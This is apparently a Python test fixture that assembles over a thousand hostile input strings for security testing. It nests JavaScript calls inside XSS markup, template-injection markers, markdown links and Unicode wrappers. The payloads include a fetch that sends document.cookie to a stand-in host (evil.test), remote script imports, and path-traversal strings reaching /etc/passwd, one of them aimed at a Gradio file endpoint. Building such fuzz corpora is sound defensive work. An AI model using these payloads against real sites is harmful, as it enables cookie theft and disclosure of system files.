"""Hostile strings made of parts: what escapes one wrapping may be what another needs. Always the same ones."""

from __future__ import annotations

import random

from tests.security.hostile import BATCH

COUNT = 1_100
CALLS = ("alert(1)", "print()", "fetch('//evil.test/'+document.cookie)", "import('//evil.test/a.js')", "confirm`1`")
MARKUP = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<a href='javascript:{}'>x</a>",
    "<iframe srcdoc='<script>{}</script>'>", "<math><mtext><style><img onerror={} src>", "<details open ontoggle={}>",
    "<form action=//evil.test><input name=attributes autofocus onfocus={}>", "<base href=//evil.test/><b>{}</b>",
    "[x](javascript:{})", "![x](https://evil.test/?{})", "[x]: data:text/html,{}", "<javascript:{}>", "`{}`|--|<b>",
    "$$\\href{{javascript:{}}}{{x}}$$", "{{{{{}}}}}", "${{{}}}", "<%= {} %>", "{{% raw %}}{}", "#{{{}}}",
    "'-{}-'", '";{};//', "\\u003cimg src=x onerror={}\\u003e", "</script><script>{}//", "]]>{}<!--", "*/{}/*",
    "/gradio_api/file=/etc/passwd?{}", '{{"path": "/etc/passwd", "meta": {{"_type": "gradio.FileData"}}, "x": "{}"}}',
    "../../../etc/passwd%00{}", "C:\\..\\{}", "file:///{}", "//evil.test/{}", "vbscript:{}", "data:text/html;base64,{}",
    "&lt;img src=x onerror={}&gt;", "<style>@import'//evil.test/{}'</style>",
    "<meta http-equiv=refresh content='0;{}'>",
    "# {}", "- [ ] {} | [1] [99](#q-x-1)", "<template><script>{}</script></template>", "<!DOCTYPE x SYSTEM '{}'>",
)  # fmt: skip
WRAPS = (
    "{}", "\u202e{}\u202c", "\u2066{}", "\u200b{}\ufeff", "{}\x07\x1b[31m", "x" * 3_000 + "{}", "{}" + "\u0301" * 400,
    "夢{}🗼", "\u00ad{}\U000e0041", "%3C{}%3E", "{}\x7f\x85", "<" * 300 + "{}", "**{}**", "\uff1c{}\uff1e", "    {}",
)  # fmt: skip


def strings() -> list[str]:
    """Return different strings without line ends, each of one part within another within a third."""
    every = [wrap.replace("{}", mark.format(call)) for mark in MARKUP for call in CALLS for wrap in WRAPS]
    random.Random(4).shuffle(every)
    chosen = list(dict.fromkeys(every))[:COUNT]
    # The first of each batch names its document, and no path of a file has an empty part or leads upwards.
    names = [text for text in chosen if "/" not in text and "\\" not in text and len(text) < 200]
    for at in range(0, COUNT, BATCH):
        other = chosen.index(names.pop())
        chosen[at], chosen[other] = chosen[other], chosen[at]
    return chosen
